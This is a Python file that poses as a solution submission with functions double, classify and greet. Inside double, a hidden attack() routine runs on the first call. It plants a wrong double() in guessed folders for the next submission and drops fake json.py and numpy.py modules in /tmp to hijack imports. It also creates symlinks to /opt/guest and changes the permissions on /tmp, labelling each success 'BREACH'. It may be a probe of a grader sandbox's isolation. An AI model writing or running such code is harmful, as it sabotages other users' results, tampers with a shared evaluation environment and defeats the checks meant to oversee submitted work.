"""The next submission's working folder, temporary files with names that can be guessed, and links in their place."""

import errno
import os
import tempfile

tried = []


def attempt(what, action):
    """One attempt, and what came of it: an action that returns something true has worked."""
    try:
        got = action()
    except OSError as error:
        print("HELD", what, errno.errorcode.get(error.errno, error.errno))
    except Exception as error:
        print("HELD", what, type(error).__name__, str(error)[:60])
    else:
        print("BREACH" if got else "TRIED", what, repr(got)[:200] if got else "")


def plant(path, text="def double(number): return 0\n"):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file:
        file.write(text)


def attack():
    for number in range(8):
        for folder in (f"/tmp/work/{number}", f"/tmp/work/q{number}", f"/tmp/work/question-{number}", f"/tmp/question{number}"):
            attempt(folder, lambda: plant(f"{folder}/plain.py"))
    for name in ("json.py", "plain.py", "numpy.py", "__init__.py"):
        attempt(f"/tmp/{name}", lambda: plant(f"/tmp/{name}", "print('BREACH a planted module was imported')\n"))
    for name in ("/tmp/work-link", "/tmp/home-link", f"{tempfile.gettempdir()}/tmp-link"):
        attempt(name, lambda: os.symlink("/opt/guest", name))
    os.chmod("/tmp/work", 0o777)
    attempt("rights of /tmp", lambda: os.chmod("/tmp", 0o000))


def double(number):
    if not tried:
        tried.append(True)
        attack()
    return 2 * number


def classify(rows):
    return [row.index(max(row)) for row in rows]


def greet(name):
    return f"Hello, {name}!"
